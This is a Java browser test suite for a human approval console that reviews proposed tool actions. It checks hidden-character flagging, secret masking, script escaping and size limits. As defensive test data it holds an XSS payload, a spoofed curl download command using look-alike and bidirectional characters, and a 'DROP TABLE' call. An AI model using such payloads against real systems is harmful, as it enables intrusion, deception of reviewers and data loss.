package dev.syndicate.approval.console;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.syndicate.approval.ProposedAction;
import dev.syndicate.approval.voting.ApprovalState;
import dev.syndicate.contracts.action.ContentRef;
import dev.syndicate.contracts.approval.RequestApproval;
import dev.syndicate.contracts.id.ApprovalId;
import dev.syndicate.contracts.identity.Person;
import dev.syndicate.contracts.json.JsonObject;
import dev.syndicate.contracts.policy.Risk;
import dev.syndicate.contracts.view.Masks;
import dev.syndicate.contracts.view.RenderedView;
import dev.syndicate.contracts.view.SecretKind;
import dev.syndicate.platform.content.DataSubject;
import dev.syndicate.platform.problem.Problem;
import dev.syndicate.testing.content.TestContents;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.assertj.core.api.InstanceOfAssertFactories;
import org.junit.jupiter.api.Test;

/** What would run is shown as it is, however it tries to look, and however large it is. */
class ConsoleReadingIT extends ConsoleBrowserIT {

    private static final String SCRIPT = "<script>document.title='broken'</script><img src=x onerror=alert(1)>";

    @Test
    void approvesHiddenCharactersOnlyAfterEachWasLookedAt() {
        ApprovalId approval =
                ask(proposed().command("curl https://get.\u0430cme.dev/x.sh -o /tmp/x\u200B.sh # \u202Eylno-daer"));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            assertThat(riley.page().locator(".texts .esc")).containsText(new String[] {"U+0430", "U+200B", "U+202E"});
            riley.sees(".note.bad h2", "3 hidden or look-alike characters");
            riley.sees(".texts .esc[aria-label='U+200B ZERO WIDTH SPACE']");
            riley.read();
            riley.sees("[data-why-text]", "Look at the flagged characters first: 0 of 3 done.");
            riley.page().locator("[data-look]").all().forEach(box -> box.check());
            riley.approve();
            riley.recorded();
        }
        assertThat(view(approval).state()).isEqualTo(ApprovalState.GRANTED);
    }

    @Test
    void coloursCommandsAndChangesNoCharacter() {
        String command = "FOO=1 kubectl get pods | jq -r '.items[] | select(.a != \"b\")'";
        ApprovalId approval = ask(proposed().command(command));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            assertThat(riley.page().locator(".texts .t-cmd")).hasText(new String[] {"kubectl", "jq"});
            assertThat(riley.find(".texts .code .line")).hasText(command);
            assertThat((String) riley.page()
                            .evaluate("() => getComputedStyle(document.querySelector('.code')).fontVariantLigatures"))
                    .isEqualTo("none");
        }
    }

    @Test
    void masksWhatPolicySaysAndHoldsItOnNoPage() {
        String token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
        ProposedAction action = proposed()
                .command("curl -H 'Authorization: token " + token + "' https://api.example/repos")
                .masking(SecretKind.GITHUB_TOKEN);
        GatewayEvents gateway = new GatewayEvents(database, identifiers, clock);
        gateway.opened(action);
        gateway.proposed(action);
        ApprovalId approval = ask(action);
        try (Reader riley = signIn("riley")) {
            riley.go("/sessions/" + action.session());
            riley.sees(".mask", "[github-token masked, 40 characters]");
            assertThat(riley.page().content()).doesNotContain(token);
            gateway.evaluated(action);
            riley.open(approval);
            riley.sees(".texts .mask[aria-label='github-token masked, 40 characters']", "[github-token masked");
            riley.sees(".masks", "1 stretch masked by policy");
            riley.page().locator("label:has(input[value=bytes])").click();
            riley.sees("pre.bytes .mask");
            riley.sees("footer.bytes", "Policy masks 1 stretch of it");
            assertThat(riley.page().locator("[data-amend]")).hasCount(0);
            riley.sees("#decision", "It cannot be amended here");
            riley.shoot("detail-masked");
            for (String path : List.of(
                    "/approvals/" + approval,
                    "/?show=all",
                    "/batch?id=" + approval,
                    "/sessions/" + action.session(),
                    "/approvals/" + approval + "/amend")) {
                riley.go(path);
                assertThat(riley.page().content()).as(path).doesNotContain(token);
            }
            assertThat(riley.page().content()).contains("Policy masks 1 stretch of what is asked");
            riley.open(approval);
            riley.approve();
            riley.recorded();
        }
        assertThat(view(approval).votes())
                .extracting(vote -> vote.viewDigest())
                .containsExactly(RenderedView.of(action.canonical(), Masks.of(List.of(SecretKind.GITHUB_TOKEN)))
                        .viewDigest());
    }

    @Test
    void showsAnEditAsChangesInTwoWays() {
        ApprovalId approval = ask(proposed().edit("a.yml", "on: push\nrun: a\n", "on: push\nrun: b\nmore: c\n"));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            assertThat(riley.page().locator(".unified tr.added")).hasCount(2);
            assertThat(riley.page().locator(".unified tr.removed .t-changed")).hasText("a");
            riley.page().locator("label:has(input[value=split])").click();
            assertThat(riley.find(".diff-box.split")).isVisible();
            assertThat(riley.find(".diff-box.unified")).isHidden();
            riley.approve();
            riley.recorded();
        }
    }

    @Test
    void showsAnEditInItsFileBesideWhatIsApproved() {
        String file = "# settings\n".repeat(40) + "retries: 3\nhost: a\u202eb\ntimeout: 5\n";
        ApprovalId approval = ask(proposed()
                .edit("/src/app.yml", "timeout: 5", "timeout: 50")
                .seen(file.getBytes(StandardCharsets.UTF_8)));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            assertThat(riley.page().locator(".files .unified tr.skipped")).containsText("39 unchanged lines");
            assertThat(riley.page().locator(".files .unified tr.added .t-changed"))
                    .hasText("50");
            assertThat(riley.find(".files .unified .esc")).hasText("U+202E");
            assertThat(riley.page().locator(".files [data-see]")).hasCount(0);
            riley.sees(".files footer", "1 hidden or look-alike character, shown escaped");
            riley.sees(".files footer", "Against the file as the tool saw it");
            riley.sees(".files footer .digest", "sha256:");
            riley.shoot("detail-file-change");
            riley.page().locator(".files label:has(input[value=split])").click();
            assertThat(riley.find(".files .diff-box.split")).isVisible();
            assertThat(riley.find(".files .diff-box.unified")).isHidden();
            riley.approve();
            riley.recorded();
        }
    }

    @Test
    void saysWhereAnEditDoesNotFitTheFileAndShowsOldAndNewText() {
        ApprovalId approval = ask(proposed()
                .edit("/src/app.yml", "timeout: 7", "timeout: 70")
                .seen("timeout: 5\n".getBytes(StandardCharsets.UTF_8)));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            riley.sees(
                    ".files .cut",
                    "This change does not fit the file as the tool saw it. The old text is not in the file.");
            assertThat(riley.page().locator(".files .diff")).hasCount(0);
            assertThat(riley.page().locator(".unified tr.added")).hasCount(1);
            riley.approve();
            riley.recorded();
        }
    }

    @Test
    void showsScriptsInEveryFieldAsText() {
        ApprovalId approval = ask(proposed()
                .by("dana", SCRIPT)
                .mcp(SCRIPT, SCRIPT, JsonObject.builder().put(SCRIPT, SCRIPT).build())
                .judged(Risk.LOW, 1, SCRIPT, SCRIPT));
        try (Reader riley = signIn("riley")) {
            riley.page().onDialog(dialog -> {
                throw new AssertionError("A script ran: " + dialog.message());
            });
            riley.go("/?show=all&q=%3Cscript%3E");
            riley.sees("[data-row]");
            assertThat(riley.page().title()).doesNotContain("broken");
            riley.open(approval);
            riley.sees(".tree", "<script>document.title='broken'</script>");
            assertThat((Number)
                            riley.page().evaluate("() => document.querySelectorAll('main script, main img').length"))
                    .isEqualTo(0);
            riley.go("/history?q=" + "%22%3E%3Cscript%3E");
            riley.sees("h1", "History");
        }
    }

    @Test
    void deniesButDoesNotApproveWhatIsTooLarge() {
        ApprovalId approval =
                ask(proposed().command("echo one more line\n".repeat(80)).reviewLimit(50));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            riley.sees("#why-not", "the policy's review limit is 50");
            riley.sees(".cut");
            riley.shoot("detail-too-large");
            riley.deny();
        }
    }

    @Test
    void staysUsableWithACommandOfFiveMegabytes() {
        ApprovalId approval = ask(proposed().command("echo " + "x".repeat(5_000_000)));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            riley.sees("#why-not", "the policy's review limit");
            riley.deny();
        }
        assertThat(view(approval).state()).isEqualTo(ApprovalState.DENIED);
    }

    @Test
    void staysUsableWithADiffOfAHundredThousandLinesAndBinaryText() {
        String lines = IntStream.range(0, 100_000)
                .mapToObj(n -> n % 100 == 0 ? "a\u0000\u001b[31m\uFFFD" : "a")
                .collect(Collectors.joining("\n"));
        ApprovalId approval = ask(proposed().edit("blob.bin", lines, lines.replace("a", "b")));
        try (Reader riley = signIn("riley")) {
            riley.go("/?show=all&q=blob.bin");
            riley.sees("[data-row]");
            riley.open(approval);
            riley.sees("#why-not", "the policy's review limit");
            riley.sees(".cut", "not shown");
            riley.deny();
        }
        assertThat(view(approval).state()).isEqualTo(ApprovalState.DENIED);
    }

    @Test
    void showsABinaryFileByItsNumbersAndApprovesItOnlyLookedAt() {
        String bytes = new String(allBytes(), StandardCharsets.ISO_8859_1);
        ApprovalId approval = ask(proposed().write("logo.png", bytes));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            riley.sees(".note.bad h2", "hidden or look-alike characters");
            riley.sees(".texts .esc", "U+0000");
            riley.read();
            riley.page().locator("[data-look]").all().forEach(box -> box.check());
            riley.approve();
            riley.recorded();
        }
        assertThat(view(approval).state()).isEqualTo(ApprovalState.GRANTED);
    }

    @Test
    void staysUsableWithAddressesAndFormsThatAreNoUtf8() {
        ApprovalId approval = ask(proposed().judged(Risk.LOW, 2, "utf8-rule", "Not every byte is a character."));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            assertThat(status(riley, "/?show=all&q=%ff%fe%c3%28", "")).isBetween(200, 499);
            assertThat(status(riley, "/approvals/" + approval + "/comments", "text=%ff%c3%28"))
                    .isBetween(200, 499);
            riley.page().reload();
            riley.deny();
        }
    }

    @Test
    void asksNobodyAboutBytesThatAreNoUtf8() {
        byte[] invalid = proposed().canonical().bytes();
        invalid[invalid.length / 2] = (byte) 0xff;
        ContentRef content = TestContents.of(database, ConsoleStage.KEYS)
                .put(DataSubject.of(new Person(ConsoleStage.issuer(), "dana", "Dana Developer", List.of())), invalid);
        RequestApproval request = proposed().request(new ApprovalId(identifiers.next()), content);
        assertThatThrownBy(() -> commands.sendAndWait(request))
                .asInstanceOf(InstanceOfAssertFactories.type(Problem.class))
                .extracting(problem -> problem.type().slug())
                .isEqualTo("approval-content-mismatch");
        assertThat(views.find(request.approval())).isEmpty();
    }

    @Test
    void foldsParametersAndApprovesOnlyWhatWasUnfolded() {
        ApprovalId approval = ask(proposed()
                .mcp(
                        "postgres",
                        "execute",
                        JsonObject.builder()
                                .put(
                                        "options",
                                        JsonObject.builder()
                                                .put("cascade", true)
                                                .build())
                                .put("sql", "DROP TABLE invoices")
                                .build()));
        try (Reader riley = signIn("riley")) {
            riley.open(approval);
            assertThat(riley.page().locator(".tree .fold")).hasCount(2);
            riley.page().locator(".tree .fold .fold > summary").click();
            assertThat(riley.page().locator(".tree").getByText("\"cascade\"")).isHidden();
            riley.page().locator("label:has(input[value=both])").click();
            assertThat(riley.find("pre.bytes")).containsText("{\"cascade\":true}");
            riley.page().locator(".tree .fold .fold > summary").click();
            riley.approve();
            riley.recorded();
        }
    }

    /** What the service answers to a request of the page's own; a form where there is a body. */
    private static int status(Reader reader, String path, String body) {
        return ((Number) reader.page().evaluate("""
                        async ([path, body]) => {
                          const token = document.querySelector('input[name=_csrf]').value;
                          const sent = body ? { method: 'POST', body: body + '&_csrf=' + encodeURIComponent(token),
                              headers: { 'Content-Type': 'application/x-www-form-urlencoded' } } : {};
                          return (await fetch(path, sent)).status;
                        }""", List.of(path, body))).intValue();
    }

    private static byte[] allBytes() {
        byte[] bytes = new byte[256];
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = (byte) i;
        }
        return bytes;
    }
}
